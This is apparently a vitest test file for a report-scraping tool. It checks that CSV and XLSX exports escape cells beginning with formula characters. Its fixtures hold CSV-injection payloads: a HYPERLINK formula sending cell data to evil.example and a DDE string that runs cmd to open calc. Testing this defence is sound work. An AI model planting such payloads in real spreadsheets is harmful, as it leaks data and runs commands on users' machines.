/**
 * Issue 20 item 7: no scraped text reaches a spreadsheet as a formula, in every CSV export
 * (export --format csv for figures and checks, --what findings, the review page's CSV link, which
 * is findingsCsv) and in the XLSX findings export.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writeExport } from '../src/commands/export.js';
import { csvField, spreadsheetText } from '../src/csv.js';
import { ReportSchema } from '../src/report.js';
import { findingsCsv, findingsXlsx, openFindingRows } from '../src/review/export-findings.js';
import { afterIngest } from '../src/review/hook.js';
import { openReviewDb } from '../src/review/schema.js';
import type { Db } from '../src/store/db.js';
import { ingestReport, sha256Hex } from '../src/store/ingest.js';

const tmp = mkdtempSync(join(tmpdir(), 'nianbao-csvinj-'));
let db: Db;
const AGENCY = '=HYPERLINK("http://evil.example/?x="&A1,"点击")';
const TITLE = '@SUM(1+1)*cmd|\' /C calc\'!A0';
const SOURCE = '+1+2';
const URL_ = '-2+3';

beforeAll(() => {
  db = openReviewDb(join(tmp, 'inj.db'));
  const bytes = new TextEncoder().encode('injection');
  const r = ReportSchema.parse({
    source: SOURCE, sha256: sha256Hex(bytes), status: 'ok', version: '2021', agency: AGENCY, year: 2022, title: TITLE, region: null,
    source_url: URL_, kind: 'html',
    figures: { 'review.upheld': 1, 'review.corrected': 1, 'review.other': 0, 'review.pending': 0, 'review.total': 5, 'art20.licensing.delta': -3 },
    checks: [{ id: 'review.total', status: 'fail', expected: 2, actual: 5, keys: ['review.total', 'review.upheld', 'review.corrected', 'review.other', 'review.pending'], reason: '=1+1 does not add up' }],
    problems: [], provenance: {},
  });
  afterIngest(db, ingestReport(db, r, bytes).reportId);
});
afterAll(() => {
  db.close();
  rmSync(tmp, { recursive: true, force: true });
});

describe('spreadsheet text', () => {
  it('prefixes a cell that would start a formula, and leaves numbers and other text alone', () => {
    expect(spreadsheetText('=1+1')).toBe("'=1+1");
    expect(spreadsheetText('+cmd')).toBe("'+cmd");
    expect(spreadsheetText('-2+3')).toBe("'-2+3");
    expect(spreadsheetText('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(spreadsheetText('\t=1')).toBe("'\t=1");
    expect(spreadsheetText('-3')).toBe('-3');
    expect(spreadsheetText('+5')).toBe('+5');
    expect(spreadsheetText('-1.25e3')).toBe('-1.25e3');
    expect(spreadsheetText('扶沟县=局')).toBe('扶沟县=局');
    expect(csvField(-3)).toBe('-3');
    expect(csvField('=A1,B1')).toBe('"\'=A1,B1"');
    expect(csvField('-"x"')).toBe('"\'-""x"""');
  });
});

/** Every field of a CSV text that is not empty: none may begin with a formula character unless it is a number. */
function formulaCells(csv: string): string[] {
  const out: string[] = [];
  // fields: quoted ("…" with "" inside) or bare
  for (const m of csv.replace(/^\ufeff/, '').matchAll(/(?:^|,|\r\n)("(?:[^"]|"")*"|[^,\r\n]*)/g)) {
    let f = m[1]!;
    if (f.startsWith('"')) f = f.slice(1, -1).replace(/""/g, '"');
    if (/^[=+\-@\t\r]/.test(f) && !/^[+-]?\d+(\.\d+)?$/.test(f)) out.push(f);
  }
  return out;
}

describe('CSV exports carry no formula', () => {
  it('figures: the agency, title, source and URL are written as text; a negative figure stays a number', () => {
    let s = '';
    writeExport(db, 'figures', 'csv', (x) => (s += x));
    expect(formulaCells(s)).toEqual([]);
    expect(s).toContain(`"'${AGENCY.replace(/"/g, '""')}"`);
    expect(s).toContain(`'${TITLE}`);
    expect(s).toContain(`,'${SOURCE},`);
    expect(s).toContain(`,'${URL_},`);
    expect(s).toMatch(/,-3,/);
  });
  it('checks: the agency and the reason', () => {
    let s = '';
    writeExport(db, 'checks', 'csv', (x) => (s += x));
    expect(formulaCells(s)).toEqual([]);
    expect(s).toContain("'=1+1 does not add up");
  });
  it('findings (export --what findings and the review page\'s CSV link): 机关, 报告标题, 链接', () => {
    const rows = openFindingRows(db);
    expect(rows.length).toBe(1);
    expect(rows[0]!['机关']).toBe(AGENCY);
    const csv = findingsCsv(rows);
    expect(formulaCells(csv)).toEqual([]);
    expect(csv).toContain(`"'${AGENCY.replace(/"/g, '""')}"`);
    expect(csv).toContain(`'${TITLE}`);
  });
  it('findings XLSX: the cells are text (shared strings), never formulas', async () => {
    const buf = await findingsXlsx(openFindingRows(db));
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buf);
    const ws = wb.worksheets[0]!;
    const header = (ws.getRow(1).values as unknown[]).slice(1);
    const row = ws.getRow(2);
    const cell = (name: string) => row.getCell(header.indexOf(name) + 1);
    expect(cell('机关').type).toBe(ExcelJS.ValueType.String);
    expect(cell('机关').value).toBe(AGENCY);
    expect(cell('报告标题').type).toBe(ExcelJS.ValueType.String);
    expect(cell('链接').type).toBe(ExcelJS.ValueType.String);
    ws.eachRow((r) => r.eachCell((c) => expect(c.type).not.toBe(ExcelJS.ValueType.Formula)));
    // and in the file itself: no <f> element anywhere in the sheet
    const { unzipSync, strFromU8 } = await import('fflate');
    const files = unzipSync(new Uint8Array(buf));
    const sheet = strFromU8(files['xl/worksheets/sheet1.xml']!);
    expect(sheet).not.toMatch(/<f[ >]/);
  });
});
